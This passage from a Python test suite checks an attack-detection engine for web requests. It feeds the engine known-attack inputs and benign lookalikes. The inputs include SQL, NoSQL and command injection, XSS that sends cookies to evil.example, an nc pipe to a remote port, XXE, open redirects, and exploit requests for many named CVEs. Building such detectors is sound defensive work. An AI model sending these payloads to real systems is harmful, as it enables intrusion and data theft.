        return [(h.type.value, h.point) for h in engine.scan(request)]

    order = {"id": 7, "total": 12.5, "tags": ["gift"], "paid": True}
    assert scan({**order, "note": "1' OR '1'='1"}) == [("sqli", "post.msgpack.note")]
    # (A script tag in data is server-side code to look for too: `post.code`.)
    assert ("xss", "post.msgpack.1.note") in scan(order, {"note": b"<script>alert(1)</script>"})
    assert scan({**order, "note": "Hello, it's me"}, [1, None, b"\x00\xff"]) == []


# A configuration in JSON with comments (a tsconfig, an editor's settings), as a client of
# a lenient parser posts one.
JSONC = b"""{
  // Compiler options for the web client.
  "compilerOptions": {
    "target": "ES2022", /* what the bundler expects */
    "paths": {"@/*": ["./src/*"]},
    "outDir": 'dist',
  },
  exclude: ["node_modules", "**/*.spec.ts",],
}"""


def test_json_with_comments_is_read_as_its_values(engine: Engine) -> None:
    request = Request("POST", "/settings", (("Content-Type", "application/json"),), JSONC)
    assert _types(engine, request) == set()
    points = {point for point, _ in extract(request, Limits()).items}
    assert {"post.json.compilerOptions.target", "post.json.compilerOptions.outDir"} <= points


def test_a_javascript_snippet_posted_whole_is_no_attack(engine: Engine) -> None:
    body = json.dumps({"body": SNIPPET}).encode()
    request = Request("POST", "/posts", (("Content-Type", "application/json"),), body)
    assert _types(engine, request) == set()


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("function() {", "rce"),  # a Node.js injection's own code starting a value
        ("x';document.location='//evil.example/?'+document.cookie;//", "xss"),
        ("'; return true; var x='", "nosqli"),
        # In a document, markup still runs.
        (SNIPPET + "<img src=x onerror=alert(1)>", "xss"),
    ],
)
def test_script_on_one_line_or_in_markup_is_still_found(
    engine: Engine, value: str, kind: str
) -> None:
    assert kind in _types(engine, Request("GET", "/a?q=" + quote(value, safe="")))


@pytest.mark.parametrize(
    ("value", "attack"),
    [
        ('<p>See <a href="x.html">(gcc) Structures</a> for details.</p>', False),
        ("<td>(curl)</td>", False),
        ('<li><a href="/docs/tar">(tar) archives</a></li>', False),
        ("tee >(nc 10.0.0.1 4444)", True),
        ("echo >(id)", True),
        ("<b>x</b> >(id)", True),  # the tag closed before: a substitution again
        ("diff <(sort a) <(cat /etc/passwd)", True),
    ],
)
def test_a_parenthesis_after_a_tag_is_the_element_s_text(
    engine: Engine, value: str, attack: bool
) -> None:
    """In rich text, `>(` ends a tag and starts the element's text: `(curl)` is a word in
    parentheses, not a process substitution."""
    body = json.dumps({"text": value}).encode()
    request = Request("POST", "/notes", (("Content-Type", "application/json"),), body)
    assert ("rce" in _types(engine, request)) == attack


@pytest.mark.parametrize(
    "value",
    [
        "```id\n```",  # a fence whose word is no language: a shell runs `id`
        "x\n```\n;cat /etc/passwd\n```",  # a fence without prose around it
        "`cat /etc/passwd`_",  # a reference on a line alone
        "|id",  # a pipe that opens the value continues the application's command line
        "x\nid -a\n-----",
    ],
)
def test_markup_hides_no_command(engine: Engine, value: str) -> None:
    assert "rce" in _types(engine, Request("GET", "/a?q=" + quote(value, safe="")))


def test_a_no_break_space_in_french_text_is_no_injection(engine: Engine) -> None:
    value = "Caf\xe9\xa0: ouvert de 10\xa0h \xe0 18\xa0h\xa0; ferm\xe9 le lundi"
    assert _types(engine, Request("GET", "/a?q=" + quote(value, safe=""))) == set()


@pytest.mark.parametrize(
    ("segment", "kind"),
    [
        ("admin'--", "sqli"),  # the comment the rest of the path would hide
        ("admin%27--", "sqli"),  # encoded twice: a proxy or the application decodes again
        ("1 GROUP BY 1,2,3 HAVING 1=1", "sqli"),
        ("1 OR true", "sqli"),
        (";id", "rce"),
        ("{{7*7}}", "ssti"),
        # An encoded slash is part of its segment: the router splits on the others.
        ("SELECT/**/password/**/FROM/**/users", "sqli"),
        ("; /usr/bin/id", "rce"),
    ],
)
def test_a_path_segment_is_read_as_the_value_a_router_hands_over(
    engine: Engine, segment: str, kind: str
) -> None:
    request = Request("GET", f"/api/items/{quote(segment, safe='')}/detail")
    assert [(h.type.value, h.point) for h in engine.scan(request)] == [(kind, "path.2")]


def test_a_base64_cursor_is_parsed_with_its_plus_signs_sent_as_they_are() -> None:
    # A client that does not encode `+` in a query sends a space to the application.
    cursor = "eyJxIjogIjEgT1IgMT0xLS0iLCAidCI6ICJ+In0="  # {"q": "1 OR 1=1--", "t": "~"}
    points = dict(extract(Request("GET", "/items?cursor=" + cursor.replace("+", "%2B")), Limits()))
    assert points["query.cursor.base64.json.q"] == "1 OR 1=1--"
    points = dict(extract(Request("GET", "/items?cursor=" + cursor), Limits()))
    assert points["query.cursor.base64.json.t"] == "~"


def test_a_base64_cursor_of_an_api_is_no_attack(engine: Engine) -> None:
    cursor = "eyJpZCI6IDEwNDIsICJ0cyI6ICIyMDI0LTAxLTAxVDAwOjAwOjAwWiJ9"  # {"id": 1042, "ts": …}
    assert _types(engine, Request("GET", "/items?limit=20&cursor=" + cursor)) == set()


JSON = (("Content-Type", "application/json"),)
GRAPHQL_QUERY = (
    'query Find($n: Int) {\n  user(name: %s, tags: ["a", %s]) { id posts(first: $n) { title } }\n}'
)


@pytest.mark.parametrize(
    ("request_", "point"),
    [
        (
            Request(
                "POST",
                "/graphql",
                JSON,
                json.dumps({"query": GRAPHQL_QUERY % ('"x"', "PAYLOAD")}).encode(),
            ),
            "post.json.query.graphql.tags",
        ),
        (
            Request(
                "POST",
                "/graphql",
                JSON,
                json.dumps({"query": GRAPHQL_QUERY % ("PAYLOAD", '"b"')}).encode(),
            ),
            "post.json.query.graphql.name",
        ),
        (
            Request("GET", "/graphql?query=" + quote("{ user(name: PAYLOAD) { id } }", safe="")),
            "query.query.graphql.name",
        ),
        (
            Request(
                "POST",
                "/graphql",
                (("Content-Type", "application/graphql"),),
                b"mutation { add(input: {note: PAYLOAD}) { id } }",
            ),
            "post.graphql.note",
        ),
    ],
)
@pytest.mark.parametrize(
    ("payload", "kind"),
    [
        ("admin'--", "sqli"),
        ("| id", "rce"),
        ("{{7*7}}", "ssti"),
        (base64.b64encode(b"' or 1=1#").decode(), "sqli"),
        ("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "xss"),  # a GraphQL escape
        ('\\"; cat /etc/passwd', "rce"),
    ],
)
def test_a_graphql_document_s_string_arguments_are_values_of_their_own(
    engine: Engine, request_: Request, point: str, payload: str, kind: str
) -> None:
    # A payload inside a GraphQL string: its quotes, braces and field names hid it.
    literal = '"' + payload + '"'
    if not request_.body:  # in the query string
        request_ = Request("GET", request_.uri.replace("PAYLOAD", quote(literal, safe="")))
    else:  # in a JSON string, escaped as JSON, or in the document itself
        json_body = request_.headers == JSON
        spelled = json.dumps(literal)[1:-1] if json_body else literal
        body = request_.body.replace(b"PAYLOAD", spelled.encode())
        request_ = Request(request_.method, request_.uri, request_.headers, body)
    assert (kind, point) in {(h.type.value, h.point) for h in engine.scan(request_)}


def test_a_graphql_document_of_an_api_is_no_attack(engine: Engine) -> None:
    query = (
        'query { search(text: "O\'Reilly books about SQL: select, join and union", first: 10, '
        'after: "eyJpZCI6IDEwNDJ9") { edges { node { ... on Book { title } } } } '
        'review(note: """Great read.\nChapter 3 covers \\"; DROP\\" statements.""") { id } }'
    )
    body = json.dumps({"query": query, "variables": {"lang": "en"}}).encode()
    assert _types(engine, Request("POST", "/graphql", JSON, body)) == set()
    points = dict(extract(Request("POST", "/graphql", JSON, body), Limits()))
    assert points["post.json.query.graphql.after"] == "eyJpZCI6IDEwNDJ9"
    assert points["post.json.query.graphql.note"].startswith("Great read.\nChapter 3")


def _b64_of(document: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(document).encode()).decode().rstrip("=")


def _soap(value: str) -> str:
    text = value.replace("&", "&amp;").replace("<", "&lt;")
    return (
        '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
        f"<soap:Body><q>{text}</q></soap:Body></soap:Envelope>"
    )


def _order(value: str) -> str:
    text = value.replace("&", "&amp;").replace("<", "&lt;")
    return f"<order><customer><name>{text}</name></customer><total>12.50</total></order>"


def _saml(value: str) -> str:
    text = value.replace("&", "&amp;").replace("<", "&lt;")
    document = (
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1">'
        f"<saml:Assertion><saml:AttributeValue>{text}</saml:AttributeValue></saml:Assertion></samlp:Response>"
    )
    return base64.b64encode(document.encode()).decode()


def _deflated_saml(document: str) -> str:
    """An XML message as SAML's HTTP-Redirect binding sends it: raw DEFLATE, in base64."""
    deflater = zlib.compressobj(wbits=-15)
    return base64.b64encode(deflater.compress(document.encode()) + deflater.flush()).decode()


def _authn_request(issuer: str) -> str:
    return (
        '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" '
        'Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">'
        f"{issuer.replace('&', '&amp;').replace('<', '&lt;')}</saml:Issuer></samlp:AuthnRequest>"
    )


def _jwt_of(claims: object) -> str:
    return f"{_b64_of({'alg': 'HS256', 'typ': 'JWT'})}.{_b64_of(claims)}.c2lnbmF0dXJl"


@pytest.mark.parametrize("payload", ["admin'--", "| id", "{{7*7}}"])
@pytest.mark.parametrize(
    ("build", "point"),
    [
        # NDJSON (Elasticsearch's bulk API): a value in quotes on one of its lines.
        (
            lambda v: Request(
                "POST",
                "/_bulk",
                (("Content-Type", "application/x-ndjson"),),
                (
                    json.dumps({"index": {"_id": "1"}}) + "\n" + json.dumps({"title": v}) + "\n"
                ).encode(),
            ),
            "post.json.1.title",
        ),
        # A JSON document in a cookie, percent-encoded as clients store one, and in a header.
        (
            lambda v: Request("GET", "/", (("Cookie", "cart=" + quote(json.dumps({"note": v}))),)),
            "cookie.cart.json.note",
        ),
        (
            lambda v: Request("GET", "/", (("X-Filter", json.dumps({"where": [v]})),)),
            "header.X-FILTER.json.where.0",
        ),
        # A token or a JSON object in base64 handed over as a parameter or a header.
        (
            lambda v: Request("GET", "/callback?id_token=" + _jwt_of({"sub": v})),
            "query.id_token.jwt.claims.sub",
        ),
        (
            lambda v: Request("GET", "/", (("X-Auth-Token", _jwt_of({"sub": v})),)),
            "header.X-AUTH-TOKEN.jwt.claims.sub",
        ),
        (
            lambda v: Request("GET", "/", (("X-User", _b64_of({"sub": v})),)),
            "header.X-USER.base64.json.sub",
        ),
        # An XML message in a value, as it is or in base64 (a SAML response a browser posts).
        (
            lambda v: Request("POST", "/api", JSON, json.dumps({"soap": _soap(v)}).encode()),
            "post.json.soap.xml.soap:Envelope.soap:Body.q",
        ),
        # An XML document of data, an API's payload carried in JSON: declared, or whose
        # root, none of HTML's, closes at its end.
        (
            lambda v: Request(
                "POST",
                "/api",
                JSON,
                json.dumps({"feed": '<?xml version="1.0"?>' + _order(v)}).encode(),
            ),
            "post.json.feed.xml.order.customer.name",
        ),
        (
            lambda v: Request("POST", "/api", JSON, json.dumps({"feed": _order(v)}).encode()),
            "post.json.feed.xml.order.customer.name",
        ),
        (
            lambda v: Request(
                "POST",
                "/sso/acs",
                FORM,
                b"SAMLResponse=" + quote(_saml(v)).encode() + b"&RelayState=x",
            ),
            "post.form.SAMLResponse.base64.xml.samlp:Response.saml:Assertion.saml:AttributeValue",
        ),
        # ...and deflated first (a request an identity provider gets by a redirect).
        (
            lambda v: Request(
                "GET", "/sso?SAMLRequest=" + quote(_deflated_saml(_authn_request(v)))
            ),
            "query.SAMLRequest.deflate.xml.samlp:AuthnRequest.saml:Issuer",
        ),
    ],
)
def test_a_document_where_text_was_expected_has_values_of_its_own(
    engine: Engine, build: Callable[[str], Request], point: str, payload: str
) -> None:
    request = build(payload)
    assert point in {p for p, _ in extract(request, Limits())}
    assert point in {h.point for h in engine.scan(request)}


@pytest.mark.parametrize(
    "markup",
    [
        "<div><p>Notes: it's done</p></div>",
        "<script>alert(1)</script>",
        "<svg><circle r='4'></circle></svg>",
        "<order><total>1</total>",  # no root closes at its end
    ],
)
def test_markup_of_html_in_a_value_is_text_not_an_xml_document(markup: str) -> None:
    """Rich text and the markup a payload sends are read as the text they are; an XML
    document in a value is one that declares itself or whose root closes at its end."""
    body = json.dumps({"html": markup}).encode()
    points = extract(Request("POST", "/", JSON, body), Limits())
    assert not any(".xml" in point for point, _ in points)


def test_a_body_of_json_lines_is_read_as_its_lines_only(engine: Engine) -> None:
    """Every line a document: its values, not the body as one text besides (as a JSON
    document's); a last line that is none (a body cut short) is text of its own."""
    lines = '{"index": {"_id": "1"}}\n{"title": "a"}\n'
    ndjson = (("Content-Type", "application/x-ndjson"),)
    points = [p for p, _ in extract(Request("POST", "/_bulk", ndjson, lines.encode()), Limits())]
    assert "post.json.1.title" in points and "post.text" not in points
    cut = Request("POST", "/_bulk", ndjson, (lines + "' or 1=1 --").encode())
    assert {(hit.type.value, hit.point) for hit in engine.scan(cut)} == {
        ("sqli", "post.json.2.text")
    }


def test_documents_in_values_of_an_api_are_no_attack(engine: Engine) -> None:
    prefs = quote(json.dumps({"theme": "dark", "recent": ["O'Reilly", "rock & roll"]}))
    lines = b'{"index":{"_id":"7"}}\n{"title":"Tom\'s notes: select a size, then order by date"}\n'
    saml = quote(_saml("Se\u00e1n O'Brien (IT & Ops) -- admin"))
    requests = [
        Request("GET", "/", (("Cookie", f"prefs={prefs}; lang=en"),)),
        Request("GET", "/", (("X-Client-Info", '{"app": "shop", "os": "iOS 17; iPhone"}'),)),
        Request("POST", "/_bulk", (("Content-Type", "application/x-ndjson"),), lines),
        Request("POST", "/sso/acs", FORM, f"SAMLResponse={saml}&RelayState=%2Fhome".encode()),
        Request(
            "GET",
            "/sso?SAMLRequest="
            + quote(_deflated_saml(_authn_request("https://sp.example.com/saml?a=1&b=2")))
            + "&RelayState=%2Fhome&SigAlg=http%3A%2F%2Fwww.w3.org%2F2001%2F04%2Fxmldsig-more"
            "%23rsa-sha256&Signature=c2lnbmF0dXJl",
        ),
        Request(
            "POST", "/api", JSON, json.dumps({"soap": _soap("Apples & pears -- 2 kg")}).encode()
        ),
    ]
    for request in requests:
        assert _types(engine, request) == set()


def test_a_saml_messages_declaration_of_entities_counts_deflated_too(engine: Engine) -> None:
    """An attack on an identity provider's XML parser: entities declared before the root,
    which the binding's parameter holds deflated, where no decoder of values looks."""
    document = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x">]>'
        + _authn_request("&x;").replace("&amp;x;", "&x;")
    )
    request = Request("GET", "/sso?SAMLRequest=" + quote(_deflated_saml(document)))
    assert {(hit.type.value, hit.point) for hit in engine.scan(request)} == {
        ("xxe", "query.SAMLRequest.deflate.xml.@doctype")
    }


def test_plain_path_segments_are_no_points_of_their_own(engine: Engine) -> None:
    points = [p for p, _ in extract(Request("GET", "/api/v1/users/42/orders"), Limits())]
    assert points == ["path"]


@pytest.mark.parametrize(
    ("request_", "kinds"),
    [
        # Citrix ADC (CVE-2019-19781): a climb left in the path, which clients resolve.
        (Request("GET", "/vpn/../vpns/cfg/smb.conf"), {"ptrav"}),
        (Request("GET", "/get/.."), set()),  # a climb to nowhere
        (Request("GET", "/compare/v1..v2/files"), set()),
        # ThinkPHP 5 (CVE-2018-20062): a PHP callable handed over as a parameter.
        (
            Request(
                "GET",
                "/index.php?s=/Index/%5Cthink%5Capp/invokefunction"
                "&function=call_user_func_array&vars[0]=system&vars[1][]=id",
            ),
            {"rce"},
        ),
        # Drupalgeddon2 (CVE-2018-7600): a render array's callback in a parameter name.
        (
            Request(
                "POST",
                "/user/register?element_parents=account/mail/%23value&ajax_form=1",
                FORM,
                b"form_id=user_register_form&mail[#post_render][]=exec&mail[#markup]=id",
            ),
            {"rce"},
        ),
        # Jenkins' script console: Groovy runs a string as a command.
        (Request("POST", "/script", FORM, b"script=println+%22id%22.execute().text"), {"rce"}),
        # Spring4Shell (CVE-2022-22965): a class loader's property set by a parameter's name.
        (
            Request(
                "POST",
                "/app",
                FORM,
                b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            ),
            {"rce"},
        ),
        # Spring Cloud Function (CVE-2022-22963): SpEL in a routing header.
        (
            Request(
                "POST",
                "/functionRouter",
                (
                    (
                        "spring.cloud.function.routing-expression",
                        "T(java.lang.Runtime).getRuntime()",
                    ),
                ),
                b"x",
            ),
            {"rce"},
        ),
        # WebLogic (CVE-2020-14882): a climb encoded twice, then a class named to run code.
        (
            Request(
                "GET",
                "/console/css/%252e%252e%252fconsole.portal?handle=com.tangosol.coherence.mvel2"
                ".sh.ShellSession(%22java.lang.Runtime.getRuntime().exec('id');%22)",
            ),
            {"ptrav", "rce"},
        ),
        # Confluence (CVE-2022-26134): OGNL in the path.
        (
            Request(
                "GET",
                "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang"
                ".Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/",
            ),
            {"rce", "ssti"},
        ),
        # Apache OFBiz (CVE-2023-51467): Groovy sent to a program export, past the sign-in
        # by a password change for no one.
        (
            Request(
                "POST",
                "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
                FORM,
                b"groovyProgram=throw+new+Exception('id'.execute().text);",
            ),
            {"rce", "vpatch"},
        ),
        # Check Point (CVE-2024-24919): climbs in a body of one line.
        (
            Request("POST", "/clients/MyCRL", (), b"aCSHELL/../../../../../../../etc/shadow"),
            {"ptrav"},
        ),
        # GeoServer (CVE-2024-36401): an XPath that calls Runtime.exec.
        (
            Request(
                "GET",
                "/geoserver/wfs?request=GetPropertyValue&typeNames=sf:archsites&valueReference="
                "exec(java.lang.Runtime.getRuntime(),'touch%20/tmp/x')",
            ),
            {"rce"},
        ),
        # Wing FTP (CVE-2025-47812): Lua after a NUL in a user name.
        (
            Request(
                "POST",
                "/loginok.html",
                FORM,
                b"username=anonymous%00]]%0dlocal+h+%3d+io.popen(%22id%22)%0d--&password=",
            ),
            {"rce"},
        ),
        # FortiOS (CVE-2022-40684): a Forwarded header claiming the loopback address.
        (
            Request(
                "PUT",
                "/api/v2/cmdb/system/admin/admin",
                (
                    ("User-Agent", "Report Runner"),
                    ("Forwarded", 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";'),
                ),
            ),
            {"ssrf"},
        ),
        # Spring Boot's Jolokia: Logback's configuration loaded from a URL (its JNDI).
        (
            Request(
                "GET",
                "/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback"
                ".classic.jmx.JMXConfigurator/reloadByURL/http:!/!/evil.example!/logback.xml",
            ),
            {"rce"},
        ),
        (
            Request(
                "POST",
                "/jolokia",
                JSON,
                b'{"type":"read","mbean":"java.lang:type=Memory","attribute":"HeapMemoryUsage"}',
            ),
            set(),
        ),
        # Spring Boot's actuator: a property that loads configuration or code from a URL,
        # set through its env endpoint (Boot 2's JSON pair, Boot 1's form); a level set,
        # or the configuration from the class path, is an operator's.
        (
            Request(
                "POST",
                "/actuator/env",
                JSON,
                b'{"name":"logging.config","value":"http://evil.example/logback.xml"}',
            ),
            {"rce"},
        ),
        (
            Request(
                "POST",
                "/env",
                FORM,
                b"eureka.client.serviceUrl.defaultZone=http%3A%2F%2Fevil.example%2Fxstream",
            ),
            {"rce"},
        ),
        (
            Request(
                "POST", "/manage/env", FORM, b"spring.main.sources=http://evil.example/x.groovy"
            ),
            {"rce"},
        ),
        (
            Request(
                "POST", "/actuator/env", JSON, b'{"name":"logging.level.root","value":"DEBUG"}'
            ),
            set(),
        ),
        (
            Request("POST", "/env", FORM, b"logging.config=classpath%3Alogback-spring.xml"),
            set(),
        ),
        # Jira's Seraph (CVE-2022-0540): a page's name with an empty parameter after it.
        (Request("GET", "/secure/WBSGanttManageScheduleJobAction.jspa;"), {"ptrav"}),
        # Supervisor (CVE-2017-11610): an XML-RPC method reaching os.system by attributes.
        (
            Request(
                "POST",
                "/RPC2",
                (("Content-Type", "text/xml"),),
                b"<?xml version='1.0'?><methodCall><methodName>supervisor.supervisord.options"
                b".warnings.linecache.os.system</methodName><params><param><string>id</string>"
                b"</param></params></methodCall>",
            ),
            {"rce"},
        ),
        # Symfony's fragments, signed with a leaked secret: a PHP function as the controller.
        (
            Request("GET", "/_fragment?_path=_controller%3Dsystem%26command%3Did&_hash=x"),
            {"rce"},
        ),
        # JBoss's JMX console: the MainDeployer deploys an archive from a URL.
        (
            Request(
                "GET",
                "/jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service=MainDeployer"
                "&methodIndex=3&arg0=http://evil.example/x.war",
            ),
            {"rce"},
        ),
        # Wazuh (CVE-2025-24016): an exception its API rebuilds from the class it is sent.
        (
            Request(
                "POST",
                "/security/user/authenticate/run_as",
                JSON,
                b'{"__unhandled_exc__": {"__class__": "exit", "__args__": []}}',
            ),
            {"rce"},
        ),
        # Zimbra (CVE-2022-27924): memcached's commands after a CRLF in a value.
        (Request("GET", "/service/proxy?target=x%0d%0aset%20x%200%200%201%0d%0a"), {"crlf"}),
        # elFinder (CVE-2021-32682): zip's option that runs a command, as an archive's name.
        (
            Request(
                "GET",
                "/php/connector.minimal.php?cmd=archive&name=-TvTT=id>shell.php%20%23%20a.zip"
                "&target=l1_Lw&type=application/zip",
            ),
            {"rce"},
        ),
        # Ghostscript's %pipe% and ImageTragick's delegate, in an uploaded image's text.
        (
            Request(
                "POST",
                "/upload",
                (("Content-Type", "multipart/form-data; boundary=b"),),
                b'--b\r\nContent-Disposition: form-data; name="file"; filename="x.eps"\r\n\r\n'
                b"%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n"
                b"mark /OutputFile (%pipe%id) currentdevice putdeviceprops\r\n--b--\r\n",
            ),
            {"rce"},
        ),
        (
            Request(
                "POST",
                "/upload",
                (("Content-Type", "multipart/form-data; boundary=b"),),
                b'--b\r\nContent-Disposition: form-data; name="file"; filename="x.mvg"\r\n\r\n'
                b"push graphic-context\nviewbox 0 0 640 480\n"
                b"fill 'url(https://example.com/x.jpg\"|id; \")'\npop graphic-context\r\n"
                b"--b--\r\n",
            ),
            {"rce"},
        ),
        (Request("GET", "/a?q=" + quote("cursor.execute(query)")), set()),
        # Confluence set up again through XWork's parameter binding (CVE-2023-22515), not a
        # setting of the same name's prefix.
        (
            Request(
                "GET",
                "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
            ),
            {"rce"},
        ),
        (Request("GET", "/settings?applicationConfig.theme=dark"), set()),
    ],
)
def test_exploits_of_known_vulnerabilities(
    engine: Engine, request_: Request, kinds: set[str]
) -> None:
    assert _types(engine, request_) == kinds


@pytest.mark.parametrize(
    ("path", "attack"),
    [
        ("/backup.sql", True),  # a dump
        ("/database.sql.gz", True),
        ("/index.php.bak", True),
        ("/www.zip", True),  # an archive named for a site or a database
        ("/site-backup-2024-01-01.tar.gz", True),
        ("/db_2024.7z", True),
        ("/config.php~", True),  # an editor's copy, served as text
        ("/%23config.inc.php%23", True),  # Emacs's autosave
        ("/assets/app.js~", False),  # a copy of what is served anyway
        ("/index.php.bck", True),  # wapiti's names for a page's backups
        ("/login.aspx.tar.gz", True),  # a program archived, which no site offers
        ("/backup.7zip", True),
        ("/dist/plugin.tbz2", False),
        ("/downloads/app-1.2.tar.gz", False),  # a download
        ("/files/photos.zip", False),
        ("/org/repo/archive/refs/tags/v1.2.tar.gz", False),
    ],
)
def test_backups_and_dumps_by_path(engine: Engine, path: str, attack: bool) -> None:
    assert _types(engine, Request("GET", path, (("Host", "example.com"),))) == (
        {"ptrav"} if attack else set()
    )


@pytest.mark.parametrize(
    ("query", "attack"),
    [
        ("user__password__startswith=a", True),  # an ORM lookup through a relation
        ("user__metadata__has_keys=is_staff", True),
        ("created_at__gte=2024-01-01", False),  # one field, one lookup: a filter
        ("first_name=Ann", False),
    ],
)
def test_orm_lookups_in_parameter_names(engine: Engine, query: str, attack: bool) -> None:
    assert _types(engine, Request("GET", "/api/users?" + query)) == (
        {"nosqli"} if attack else set()
    )


@pytest.mark.parametrize(
    ("query", "attack"),
    [
        # Filter APIs' own language: Strapi, Parse, RESTHeart, CouchDB; a field matched
        # with a pattern.
        ("filters[price][$gt]=10&filters[price][$lte]=50", False),
        ('where={"name":{"$regex":"^a","$options":"i"}}', False),
        ('selector={"year":{"$gt":2010},"title":{"$regex":"^The"}}', False),
        ("filters[$or][0][date][$eq]=2020-01-01&filters[$or][1][date][$eq]=2020-01-02", False),
        ("filters[status][$not][$eq]=draft", False),
        # A credential's field equal to a value, or to one of a list: accounts looked up.
        ("filters[username][$in][0]=john&filters[username][$in][1]=jane", False),
        ("filters[username][$eq]=john", False),
        ('where={"score":{"$gte":1000,"$lte":3000}}', False),
        ('filter={"$or":[{"wins":{"$gt":150}},{"wins":{"$lt":5}}]}', False),
        # A Feathers service's query, told by the parameters it keeps for itself.
        ("price[$gt]=10&$limit=5&$sort[createdAt]=-1", False),
        ("email[$in][]=a@x.com&email[$in][]=b@x.com&$skip=20", False),
        ("price[$gt]=10", True),  # no service's parameter: a field given an operator
        ("username=admin&password[$ne]=x&$limit=1", True),  # a credential's
        ("name[$where]=sleep(1000)&$limit=1", True),  # code
        # Operators made for a plain value, whatever the parameter is named.
        ("username[$ne]=admin&password[$ne]=x", True),
        ('user={"$ne":null}', True),
        ('filter={"$ne": null}', True),  # a comparison where conditions belong
        ("filter[$ne]=1", True),
        ('filter={"username": {"$ne": "x"}, "password": {"$ne": "x"}}', True),  # credentials
        ('filter={"$or": [{}, {"a": "a"}]}', True),  # an empty condition matches everything
        ("filters[title][$where]=sleep(1000)", True),  # code
        ("filters[password][$regex]=^a", True),  # a secret read a character at a time
        ("filters[username][$ne]=x&filters[password][$ne]=x", True),  # a login's bypass
        ("filters[password][$gt]=", True),
        ('where={"sessionToken":{"$regex":"^r"}}', True),
        ('filter={"api_key":{"$regex":"^sk_"}}', True),
        ('where={"$regex":"^a"}', True),  # a pattern of no field
    ],
)
def test_mongodb_operators_in_filters_and_in_values(
    engine: Engine, query: str, attack: bool
) -> None:
    found = _types(engine, Request("GET", "/api/items?" + quote(query, safe="=&[]")))
    assert ("nosqli" in found) is attack


@pytest.mark.parametrize(
    ("query", "attack"),
    [
        ("next=%2F%2Fevil.com", True),  # protocol-relative
        ("return_to=%2F%5Cevil.com", True),  # a backslash browsers read as a slash
        ("redirect=https%3A%2F%2Fexample.com%40evil.com", True),  # credentials trick
        ("url=http%3A%2F%2Fevil.com%2523.example.com", True),  # an encoded separator
        ("next=https:evil.com", True),  # no slashes at all
        ("next=%2F%09%2Fevil.com", True),  # browsers drop the tab: //evil.com
        ("next=%2F%2F%2Fevil.com", True),  # any number of slashes
        ("next=%2F%2F%3B%40evil.com", True),
        ("next=http%3A%2F%2Fevil.com%5C%40example.com", True),  # `\` ends the host for browsers
        ("next=http%3A%2F%2F%2Fevil.com", True),  # http:///evil.com: the same
        ("next=https%3A%2F%2Fevil.com%23.example.com", True),  # a suffix after `#`
        ("goto=https%3A%2F%2Fevil.com%3Fexample.com", True),  # a suffix after `?`
        ("next=https%3A%2F%2Fevil%E3%80%82com", True),  # an ideographic full stop
        ("next=%E3%80%B1evil.com", True),  # 〱: a slash to some browsers
        ("next=http:%0A%0Devil.com", True),  # the line breaks dropped: http:evil.com
        ("next=http:[::216.58.214.206]", True),  # an address in brackets, no slashes
        ("next=http%3A%2F%2F%5B%3A%3A1%5D%2Fhome", False),  # http://[::1]/home
        ("next=hthttp://tp://evil.com", True),  # `http://` stripped once leaves http://
        ("next=hTTp://evil.com", True),  # a scheme in mixed case, for a filter of one case
        ("next=HtTPs%3A%2F%2Fevil.com", True),
        ("next=Http%3A%2F%2Fsso.example.com", False),  # a phone's capital
        ("next=HTTPS://sso.example.com/", False),
        ("RelayState=%2F%2Fevil.com", True),  # SAML's, CAS's and a callback's names too
        ("service=%2F%5Cevil.com", True),
        ("callback=https%3A%2F%2Fexample.com%40evil.com", True),
        ("nextUrl=%2F%2Fevil.com", True),
        ("callback=jQuery3610_1733421600", False),  # a JSONP callback's name
        ("next=%2Faccount%2Forders", False),  # a path on this site
        ("next=https%3A%2F%2Fdocs.example.com%23v1.2", False),  # a fragment
        ("next=https%3A%2F%2Fexample.com%3Futm_source%3Dnews.example.com", False),
        ("next=https%3A%2F%2Fsso.example.com%2Fcallback", False),  # an absolute URL: allowed
        ("q=%2F%2Fevil.com", False),  # not a redirect parameter
    ],
)
def test_open_redirects(engine: Engine, query: str, attack: bool) -> None:
    request = Request("GET", "/login?" + query, (("Host", "example.com"),))
    found = _types(engine, request)
    # `http://evil.com\@example.com` is a forgery too: a validator reads the host one way,
    # the client that fetches it another.
    assert ("redir" in found and found <= {"redir", "ssrf"}) if attack else found == set()


@pytest.mark.parametrize(
    ("query", "attack"),
    [
        ("mosConfig_absolute_path=https%3A%2F%2Fevil.example", True),  # CRS 931110
        ("_CONF[path]=https%3A%2F%2Fevil.example%2F", True),
        ("phpbb_root_path=ftp%3A%2F%2Fevil.example%2Fx.txt", True),
        ("gallery[base_dir]=http%3A%2F%2Fevil.example%2F", True),
        ("base_dir=%2Fvar%2Fwww", False),  # a directory, not a URL
        ("homepage=https%3A%2F%2Fevil.example%2F", False),  # a URL, not an included one
        ("dir=https%3A%2F%2Fexample.com%2F", False),  # a bare `dir` names too much
    ],
)
def test_remote_file_inclusion_by_parameter_name(engine: Engine, query: str, attack: bool) -> None:
    request = Request("POST", "/index.php?" + query, (("Host", "example.com"),))
    assert _types(engine, request) == ({"ssrf"} if attack else set())


@pytest.mark.parametrize(
    ("request_", "expected"),
    [
        # A native app's loopback redirect (RFC 8252): the browser goes there, not the server.
        ("/authorize?client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A51234%2Fcallback", set()),
